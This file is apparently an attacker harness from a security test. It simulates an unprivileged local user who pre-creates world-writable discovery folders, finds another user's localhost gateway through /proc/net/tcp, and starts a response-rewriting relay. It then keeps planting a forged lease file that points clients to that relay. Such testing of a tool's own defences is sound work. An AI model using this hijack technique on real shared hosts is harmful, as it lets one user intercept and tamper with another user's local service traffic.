/**
 * Another, unprivileged user of the host, in a process of its own. Takes the folders that it is given before the victim
 * comes, finds the victim's gateway among the open ports, relays to it, and leaves a note that leads to the relay. Says
 * on standard output what it got, a line of JSON each. Uses nothing but what every user has.
 */
import { chmodSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { startRelay } from './relay.ts'

const [victim = '', ...folders] = process.argv.slice(2)
const say = (value: unknown) => process.stdout.write(`${JSON.stringify(value)}\n`)

for (const folder of folders) {
  const levels = [folder, join(folder, 'countersign'), join(folder, 'countersign', 'gateways')]
  for (const level of levels) {
    mkdirSync(level, { recursive: true })
    chmodSync(level, 0o777)
  }
}
say({ kind: 'ready' })

const places = folders.map((folder) => join(folder, 'countersign', 'gateways'))
const gateway = await found()
const relay = await startRelay(gateway, (_path, body, own) => body.replaceAll(gateway, own))
say({ kind: 'relay', relay: relay.url })
const own = '99999999.json'
for (let told = 0; ; await sleep(20)) {
  // The note of the victim comes a moment after its port; its name says the process.
  const noted = places.flatMap((place) => readdirSync(place)).find((name) => name !== own)
  const pid = noted === undefined ? 2 : Number.parseInt(noted, 10)
  const lease = { pid, url: relay.url, startedAt: '2999-01-01T00:00:00.000Z', version: '' }
  for (const place of places) writeFileSync(join(place, own), JSON.stringify(lease))
  if (relay.answers.length === told) continue
  told = relay.answers.length
  say({ kind: 'relayed', answers: told })
}

/** Every user may read which ports are open, and whose they are. */
async function found(): Promise<string> {
  for (;;) {
    for (const port of portsOf(victim)) {
      const url = `http://127.0.0.1:${port}`
      const answer = await fetch(`${url}/v1/health`).catch(() => undefined)
      if (answer?.ok) return url
    }
    await sleep(50)
  }
}

function portsOf(uid: string): number[] {
  return readFileSync('/proc/net/tcp', 'utf8')
    .split('\n')
    .map((line) => line.trim().split(/\s+/))
    .filter((fields) => fields[3] === '0A' && fields[7] === uid && fields[1]?.startsWith('0100007F:'))
    .map((fields) => Number.parseInt(fields[1]?.split(':')[1] ?? '', 16))
}
